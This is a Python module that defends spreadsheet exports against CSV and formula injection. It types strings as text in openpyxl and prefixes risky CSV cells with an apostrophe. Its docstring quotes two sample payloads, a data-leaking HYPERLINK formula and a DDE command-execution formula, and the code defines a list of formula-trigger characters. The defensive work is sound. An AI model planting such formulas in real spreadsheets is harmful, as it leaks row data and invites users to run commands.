"""Text coopcore writes into spreadsheets stays text: never a formula in an .xlsx, neutralised in a .csv.

A member named `=HYPERLINK("http://…?d="&B2,"点此")` or `=cmd|' /C calc'!A0` must reach the office as that
name, not as a link that leaks the row or a command Excel offers to run (CSV injection, OWASP). openpyxl makes
every str that starts with "=" a formula (and "#N/A" an error value): every text cell is written through
`text_cell`, which types it as text. A CSV has no types, so text cells that a spreadsheet would read as a
formula get a leading apostrophe, as OWASP recommends; numbers (negative amounts too) stay numbers.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

# What makes Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CellValue = str | Decimal | int | dt.date | None  # what coopcore writes into a cell (a datetime is a date)


def text_cell(worksheet: WriteOnlyWorksheet, value: CellValue) -> Cell:
    """Return a write-only cell of the worksheet holding the value; a str is always a text cell."""
    cell = WriteOnlyCell(worksheet)
    cell.value = value  # the setter takes a Decimal or a date, which WriteOnlyCell's value argument is not typed for
    if isinstance(value, str):
        cell.data_type = "s"  # not "f" (formula) or "e" (error), whatever the text starts with
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True  # Excel keeps it text even when someone edits the cell
    return cell


def text_row(worksheet: WriteOnlyWorksheet, values: Iterable[object]) -> list[object]:
    """Return a row for `worksheet.append`: text values as text cells, other values as they are."""
    return [text_cell(worksheet, value) if isinstance(value, str) else value for value in values]


def csv_text(value: str) -> str:
    """Return a CSV text cell no spreadsheet will run: a leading ' before = + - @ tab or CR."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value
